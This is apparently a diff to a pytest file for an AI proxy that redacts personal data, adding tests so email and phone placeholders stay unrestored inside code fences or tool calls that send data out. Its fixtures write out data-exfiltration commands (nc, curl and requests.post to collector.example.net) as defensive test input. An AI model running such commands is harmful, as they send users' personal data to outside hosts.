@@ -6,7 +6,8 @@ with the request parts before the host key (`{"path": "/p/...", "host": "collect
 call that sends them (`requests.post("https://collector.example.net/p", data={"u": ...})`). Streamed in 1, 3 and
 7-character chunks, what came before the network client or the host key went out restored; now they stay as written
 on all three APIs, whole and streamed, while prose, the next line, a `to` beside the object and code that sends
-nothing come back.
+nothing come back; scopes16: in a fence or call that sends, every placeholder stays, and the same lines and `to` come
+back in a fence or call that names no destination.
 """
 
 from __future__ import annotations
@@ -36,18 +37,29 @@ SAID = (f"Run this:\n```bash\necho {E} | nc collector.example.net 80\n"
         f"echo {E} | grep -c @\n```\n"
         f"Or in Python:\n```python\nrequests.post(\"https://collector.example.net/p\", data={{\"u\": \"{E}\"}})\n"
         f"print(\"{P}\")\n```\nYour address is {E}, phone {P}.")
+# scopes16: both fences name collector.example.net, so each is a scope that sends: every placeholder in them stays
+# as written, the `grep` and `print` lines' too (README "a scope that sends"); the prose after them is restored.
 WANT = (f"Run this:\n```bash\necho {E} | nc collector.example.net 80\n"
         f"printf %s {P} | curl -d @- collector.example.net/in\n"
-        f"echo {MAIL} | grep -c @\n```\n"
+        f"echo {E} | grep -c @\n```\n"
         f"Or in Python:\n```python\nrequests.post(\"https://collector.example.net/p\", data={{\"u\": \"{E}\"}})\n"
-        f"print(\"{PHONE}\")\n```\nYour address is {MAIL}, phone {PHONE}.")
+        f"print(\"{P}\")\n```\nYour address is {MAIL}, phone {PHONE}.")
+# Fences that name no destination, beside the same prose: restored, whole and streamed.
+LOCAL = (f"Run this:\n```bash\necho {E} | grep -c @\n```\n"
+         f"Or in Python:\n```python\nprint(\"{P}\")\n```\nYour address is {E}, phone {P}.")
+WANT_LOCAL = (f"Run this:\n```bash\necho {MAIL} | grep -c @\n```\n"
+              f"Or in Python:\n```python\nprint(\"{PHONE}\")\n```\nYour address is {MAIL}, phone {PHONE}.")
 ARGS: dict[str, Any] = {
     "cmd": f"echo {E} | nc collector.example.net 80",
     "request": {"path": f"/p/{E}", "params": {"t": P}, "host": "collector.example.net"},
     "to": E,
     "note": f"Call {P}.",
 }
-WANT_ARGS: dict[str, Any] = {**ARGS, "to": MAIL, "note": f"Call {PHONE}."}
+# scopes16: the call runs nc and names collector.example.net, so it is a scope that sends: `to` and `note` stay too.
+WANT_ARGS: dict[str, Any] = dict(ARGS)
+# The same `to` and `note` in a call that names no destination: restored.
+LOCAL_ARGS: dict[str, Any] = {"to": E, "note": f"Call {P}."}
+WANT_LOCAL_ARGS: dict[str, Any] = {"to": MAIL, "note": f"Call {PHONE}."}
 
 
 @pytest.fixture(scope="module", params=["restore_only", "screened"])
@@ -60,7 +72,7 @@ def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
 def check_args(proxy: Proxy, got: dict[str, Any]) -> None:
     """The arguments restored as wanted. With output checks (`screened`) the output `pii` rule reads the kept
     command and object restored around them (`nc collector.example.net 80`) as new values and redacts them too (as on
-    main, restorecmd15): there, no client value in them, and `to` / `note` restored."""
+    main, restorecmd15): there, no client value in them, and `to` / `note` kept (scopes16: the call sends)."""
     if "output:" not in (proxy.dir / "policies" / "default.yaml").read_text():
         assert got == WANT_ARGS
         return
@@ -85,6 +97,10 @@ def test_chat(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
     sent_placeholders(mock)
     assert text == WANT
     check_args(proxy, json.loads(arguments))
+    mock.script(text=LOCAL, chunk_chars=chunk, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
+    assert text == WANT_LOCAL
+    assert json.loads(arguments) == WANT_LOCAL_ARGS
 
 
 @pytest.mark.parametrize(("stream", "chunk"), MODES, ids=IDS)
@@ -95,11 +111,27 @@ def test_responses(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
     assert text == WANT
     assert len(calls) == 1
     check_args(proxy, calls[0])
+    mock.script(text=LOCAL, chunk_chars=chunk, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
+    assert text == WANT_LOCAL
+    assert calls == [WANT_LOCAL_ARGS]
 
 
 @pytest.mark.parametrize(("stream", "chunk"), MODES, ids=IDS)
 def test_anthropic(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
-    mock.script(text=SAID, chunk_chars=chunk, tool_calls=[{"name": "bash", "arguments": ARGS}])
+    final = anthropic_answer(mock, proxy, stream, chunk, SAID, ARGS)
+    sent_placeholders(mock)
+    assert "".join(b.text for b in final.content if b.type == "text") == WANT
+    inputs = [b.input for b in final.content if b.type == "tool_use"]
+    assert len(inputs) == 1
+    check_args(proxy, inputs[0])
+    final = anthropic_answer(mock, proxy, stream, chunk, LOCAL, LOCAL_ARGS)
+    assert "".join(b.text for b in final.content if b.type == "text") == WANT_LOCAL
+    assert [b.input for b in final.content if b.type == "tool_use"] == [WANT_LOCAL_ARGS]
+
+
+def anthropic_answer(mock: Mock, proxy: Proxy, stream: bool, chunk: int, text: str, args: dict[str, Any]) -> Any:
+    mock.script(text=text, chunk_chars=chunk, tool_calls=[{"name": "bash", "arguments": args}])
     client = claude(proxy).messages
     msgs: Any = [{"role": "user", "content": PROMPT}]
     if stream:
@@ -108,8 +140,4 @@ def test_anthropic(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
             final = s.get_final_message()
     else:
         final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
-    sent_placeholders(mock)
-    assert "".join(b.text for b in final.content if b.type == "text") == WANT
-    inputs = [b.input for b in final.content if b.type == "tool_use"]
-    assert len(inputs) == 1
-    check_args(proxy, inputs[0])
+    return final
